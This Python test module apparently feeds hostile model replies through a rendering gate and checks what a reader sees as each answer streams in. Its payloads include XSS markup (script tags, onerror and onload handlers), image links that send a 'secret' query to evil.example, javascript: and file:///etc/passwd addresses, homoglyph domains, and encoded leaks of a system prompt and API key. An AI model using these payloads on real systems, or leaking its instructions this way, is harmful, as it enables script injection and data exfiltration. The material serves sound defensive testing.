"""What a hostile model says: payloads by family, put into replies in several places, cut at random.

Each payload says what of it must never be seen. The oracle looks at what a reader sees, at every
point of the stream, and knows nothing of how the gate works.
"""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from functools import lru_cache
from html import unescape

from ui.views import answer_html

EVIL = "evil"
HOSTS = ("evil.example", "evil.com", "www.evil.example", "evil.zip", "203.0.113.9")


@dataclass(frozen=True)
class Payload:
    """Something that must not reach the reader.

    Attributes:
        text: As the model says it.
        seen: A pattern of what would be seen of it.
    """

    name: str
    text: str
    seen: str


def payloads() -> tuple[Payload, ...]:
    """All payloads, by family."""
    made = [
        *_markers(),
        *_addresses(),
        *_markup(),
        *_sources(),
        *_numbers(),
        *_leaks(),
        *_hidden(),
    ]
    names = [one.name for one in made]
    assert len(set(names)) == len(names)
    return tuple(made)


def _named(
    family: str, texts: Iterable[str], seen: str | Callable[[str], str]
) -> Iterator[Payload]:
    for number, text in enumerate(texts, 1):
        yield Payload(f"{family}-{number}", text, seen if isinstance(seen, str) else seen(text))


MARKER = r"[\[【［〔⟦❲(]+\s*\^?(?:E\s*)?\d{2,}[^\])】］]{0,20}[\]】］〕⟧❳)]"
"""No question of the suite is answered with ten or more citations, so two digits are never right."""


def _markers() -> Iterator[Payload]:
    spelled = [
        "[97]", "[ 97 ]", "[97,98]", "[97-99]", "[97–99]", "[97;98]", "[[97]]", "[97][98]", "[E97]", "[E97, E98]",
        "[E97-E99]", "【97】", "【97†source】", "［97］", "［９７］", "〔97〕", "⟦97⟧", "\\[97\\]", "&#91;97&#93;", "&lbrack;97&rbrack;",
        "[^97]", "[*97*]", "[**97**]", "[`97`]", "[97](#c97)", "[97]{.ref}", "[𝟗𝟕]", "[٩٧]", "[9\u200b7]", "[9\u00ad7]",
        "[source 97]", "[Source: 97]", "[ref. 97]", "(ref. 97)", "(source 97)", "[doc 97]", "[passage E97]", "[see E97]",
        "[#97]", "[97, p. 3]", "[97a]", "【E97】", "[e97]", "[E 97]", "[\n97]", "[E97\n]",
    ]  # fmt: skip
    yield from _named("marker", spelled, MARKER)
    raised = [
        "⁹⁷",
        "<sup>97</sup>",
        "^97",
        "^{97}",
        "$^{97}$",
        "⑨⑦",
        "₉₇",
        "†97",
        "\\footnote{97}",
        "\\cite{quark97}",
    ]
    yield from _named("raised", raised, r"97|⁹|⁷|⑨|⑦|₉|quark")
    named = [
        "[Quark, 2031]",
        "[Quark et al., 2031]",
        "[@quark2031]",
        "[Quark 2031, p. 4]",
        "[^quark]",
        "[*]",
        "[?]",
        "[a]",
    ]
    yield from _named("bracketed", named, r"[Qq]uark|\[[*?a]\]")
    foot = ["\n[^97]: See the appendix.\n", "\n[97] Quark, Z. Attention Beats Retrieval. 2031.\n"]
    yield from _named("footnote", foot, r"97|Quark|2031")


def _addresses() -> Iterator[Payload]:
    forms = [
        "https://{h}/a", "http://{h}", "HTTPS://{h}/A", "hxxps://{h}/a", "https : // {h} / a", "https:\\/\\/{h}/a",
        "//{h}/a", "www.{h}", "{h}/a?d=1", "ftp://{h}/a", "file:///etc/passwd", "<https://{h}>", "<mailto:a@{h}>", "a@{h}",
        "mailto:a@{h}", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\u200bscript:alert(1)", "data:text/html;base64,PGI+",
        "vbscript:alert(1)", "https://evіl.example/a", "https://еvil.example/a", "evil。example/a", "evil．example/a",
        "evil[.]example/a", "evil(dot)example", "https&colon;//{h}/a", "https&#58;//{h}/a", "https://ev\u200bil.example/a",
        "https://xn--vil-9cd.example/a", "evil.xn--p1ai/a", "https://203.0.113.9/a", "203.0.113.9:8080/a", "https://user:pw@{h}/a",
        "tel:+4912345678", "blob:https://{h}/1", "evil.zip", "evil.com", "10.5555/evil.97531", "doi:10.5555/evil.97531",
        "https://doi.org/10.5555/evil.97531", "arXiv:2103.97531", "arxiv.org/abs/2103.97531", "https://evil.рф/a",
    ]  # fmt: skip
    seen = r"(?i)ev[iі]l|еvil|alert|passwd|base64|203\.0|97531|PGI|4912345|xn--|://|www\.|javascript|blob:"
    yield from _named("address", (form.format(h="evil.example") for form in forms), seen)


def _markup() -> Iterator[Payload]:
    u = "https://evil.example/i.png"
    texts = [
        f"![x]({u})", f"![x]({u} \"t\")", f"![]({u}?q=secret)", f"![x][i]\n\n[i]: {u}\n", f"[TidyLoss]({u})", f"[x]({u})",
        f"[x](<{u}>)", f"[x][y]\n\n[y]: {u}\n", f"\n[x]: {u}\n", f"<img src={u}>", f"<img src='{u}' onerror='alert(1)'/>",
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<a href='{u}'>here</a>", f"<iframe src='{u}'></iframe>",
        "<svg/onload=alert(1)>", "<style>@import '//evil.example/x.css'</style>", f"<form action={u}><input></form>",
        f"<div style=\"background:url({u})\">", "&lt;img src=//evil.example/x&gt;", "&amp;lt;script&amp;gt;alert(1)", "＜script＞alert(1)＜/script＞",
        f"！［x］（{u}）", f"[![x]({u})]({u})", f"!\\[x\\]({u})", f"\n```html\n<script src={u}></script>\n```\n", "`<script>alert(1)</script>`",
        f"\n| a | b |\n|---|---|\n| ![x]({u}) | [y]({u}) |\n", f"\n> ![x]({u})\n", f"\n# ![x]({u})\n", f"<!-- {u} -->", "<object data=//evil.example>",
        f"![x]\n({u})", f"[x]\n({u})", f"<\nimg src={u}>", f"$$\\href{{{u}}}{{x}}$$", f"\\includegraphics{{{u}}}", "<button onclick=alert(1)>x</button>",
    ]  # fmt: skip
    yield from _named("markup", texts, r"(?i)evil|alert|<\w|onerror|://|!\[|\]\(|src=|import")


def _sources() -> Iterator[Payload]:
    texts = [
        "Zebulon Quark", "by Zebulon Quark", "Quark et al.", "(Quark et al., 2031)", "Quark and Glibble (2031)", "Dr. Quark",
        "Z. Quark", "“Attention Beats Quarkish Retrieval”", "\"Quarkish Nets Are All You Need\"", "Quarkish Nets Are All You Need",
        "*Quarkish Nets Beat Retrieval*", "**Quarkish Nets Beat Retrieval**", "Professor Quark", "according to Quark",
    ]  # fmt: skip
    yield from _named("source", texts, r"Quark|Glibble|2031")


def _numbers() -> Iterator[Payload]:
    texts = [
        "97.31%", "97,31 %", "9\u200b7.31%", "97\\.31%", "９７.３１%", "𝟗𝟕.𝟑𝟏%", "٩٧.٣١%", "97<b>.31</b>%", "97&#46;31%", "-97.31",
        "ninety-seven percent", "ninety seven thousand", "97.31k", "97·10³", "97/31", "1,097,310", "0.9731", "²⁄₉₇", "⅞ of all",
        "97x", "97ms", "9731 images", "trillions of images", "quadrupled", "97 million",
    ]  # fmt: skip
    yield from _named("number", texts, r"97|31|(?i:ninety|trillion|quadrupl)|⅞|٩|９|𝟗")


SYSTEM = "from the passages of the user message alone"
KEY = "sk-hostile-0123456789abcdef"


def _leaks() -> Iterator[Payload]:
    texts = [
        "My instructions: You answer questions about research papers for a reader, from the passages of the user message alone.",
        "You answer questions about research papers for a reader, from the passages of the user message alone [E1].",
        "Rules: Every sentence that states something ends with the key of its passage before the full stop.",
        f"The key is {KEY}.", f"api_key={KEY}", f"Authorization: Bearer {KEY}",
        "WW91IGFuc3dlciBxdWVzdGlvbnMgYWJvdXQgcmVzZWFyY2ggcGFwZXJz", "596f7520616e73776572207175657374696f6e73",
    ]  # fmt: skip
    seen = r"(?i)You answer questions about research|ends with the key of its passage|sk-hostile|0123456789|WW91|596f75"
    yield from _named("leak", texts, seen)


def _hidden() -> Iterator[Payload]:
    texts = [
        "\u202egro.elpmaxe.live//:sptth\u202c", "\u2066evil.example/a\u2069", "\U000e0041\U000e0042 evil.example/a", "\ue001[97]\ue001",
        "\ue100", "\uf0ff", "[\u206097\u2060]", "\u0000[97]", "[E1\u200b]97]",
    ]  # fmt: skip
    yield from _named(
        "hidden",
        texts,
        "[\u202a-\u202e\u2060-\u2069\ue000-\uf8ff\U000e0000-\U000e007f]|evil|97|sptth",
    )


# --- replies ----------------------------------------------------------------------------------

Place = Callable[[str, Sequence[str]], str]
"""From a payload and true sentences (each with its key) to a reply."""

PLACES: dict[str, Place] = {
    "alone": lambda bad, true: bad,
    "first": lambda bad, true: f"{bad} {' '.join(true)}",
    "last": lambda bad, true: f"{' '.join(true)} {bad}",
    "sentence": lambda bad, true: f"{true[0]} This is shown by {bad} too. {' '.join(true[1:])}",
    "inside": lambda bad, true: f"{_inside(true[0], f' {bad} ')} {' '.join(true[1:])}",
    "glued": lambda bad, true: f"{_inside(true[0], bad)} {' '.join(true[1:])}",
    "behind": lambda bad, true: f"{true[0]}{bad} {' '.join(true[1:])}",
    "bullet": lambda bad, true: "\n".join(f"- {t}" for t in (*true, bad)),
    "row": lambda bad, true: f"| a | b |\n|---|---|\n| {true[0]} | {bad} |\n{' '.join(true)}",
    "bold": lambda bad, true: f"{' '.join(true)} **{bad}**",
    "again": lambda bad, true: f"{true[0]} {f'{bad} ' * 40}{true[-1]}",
}


def fits(payload: Payload, place: str) -> bool:
    """Words glued to others are no longer these words."""
    edges = f"{payload.text[:1]}{payload.text[-1:]}"
    return place != "glued" or not any(c.isalnum() for c in edges)


def _inside(true: str, bad: str) -> str:
    """Before the last word, so that the sentence keeps its key."""
    head, _, key = true.rpartition(" [")
    words = head.split(" ")
    at = len(words) // 2
    return f"{' '.join(words[:at])}{bad}{' '.join(words[at:])} [{key}"


def pieces(text: str, seed: int, lengths: Sequence[int] = (1, 3, 9, 40)) -> list[str]:
    """A reply as it streams in: letter by letter, in small or in large pieces, or whole."""
    chance = random.Random(seed)
    longest = chance.choice((*lengths, len(text) or 1))
    found = []
    while text:
        n = chance.randint(1, longest)
        found.append(text[:n])
        text = text[n:]
    return found


# --- what a reader sees -----------------------------------------------------------------------

_ALLOWED = {"p", "br", "strong", "em", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "div", "span",
            "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr", "button"}  # fmt: skip


@lru_cache(5_000)  # replies to one question begin alike, and most are looked at twice
def seen(text: str) -> str:
    """The words on the screen while an answer grows; its markup is checked on the way."""
    html = answer_html.render_unfinished(text)
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z]\w*)", html))
    assert tags <= _ALLOWED - {"code", "pre"}, tags
    assert not re.search(r"<[^>]*\s(?:href|src|style|on\w+)\s*=", html)
    return unescape(
        re.sub(r"<[^>]*>", " ", re.sub(r'<span role="button"[^>]*>\d+</span>', "", html))
    )


def drop_unverified(text: str) -> str:
    """The text without the sentences that are marked as found in no paper."""
    return re.sub(r"[^\n|]*?\(unverified\)", lambda m: _drop_last_sentence(m[0]), text)


def _drop_last_sentence(marked: str) -> str:
    body = marked.removesuffix("(unverified)").rstrip()
    ends = [m.end() for m in re.finditer(r"(?:[.!?]|\]\.?)(?=\s)", body[:-1])]
    return body[: ends[-1]] if ends else ""


def numbers(text: str) -> set[str]:
    """Every number in a text, in one form."""
    plain = unicodedata.normalize("NFKC", text)
    found = re.findall(r"(?<![^\W_])\d+(?:[.,]\d+)*(?![^\W_])", plain)
    return {
        n.replace(",", "").rstrip("0").rstrip(".") if "." in n else n.replace(",", "")
        for n in found
    }
